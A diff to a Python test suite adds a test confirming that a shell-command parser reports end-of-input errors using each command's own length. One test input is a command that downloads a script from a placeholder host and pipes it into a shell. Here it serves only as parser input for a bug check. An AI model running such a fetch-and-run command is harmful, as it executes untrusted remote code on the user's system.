@@ -882,3 +882,11 @@ def test_enrich_shell_uses_this_process_home_without_the_fact(proj: Path) -> Non
 def test_enrich_shell_leaves_other_events_alone(proj: Path, tool: ToolCall | None) -> None:
     before = event(tool, cwd=str(proj), project_dir=str(proj))
     assert enrich_shell(before) is before
+
+
+def test_a_lines_end_of_input_error_names_its_own_length_whatever_was_parsed_before() -> None:
+    # bashlex keeps the first script's length in its end-of-input error: the same line's facts hung on the last one
+    first, second = "curl -s https://x.example.net/a | sh &!", "x=1; y=$(cat a.txt) |"
+    for command in (first, second, first):
+        error = parse(command, Path("/srv/proj"))["error"]
+        assert error == f"unexpected EOF (position {len(command)})"
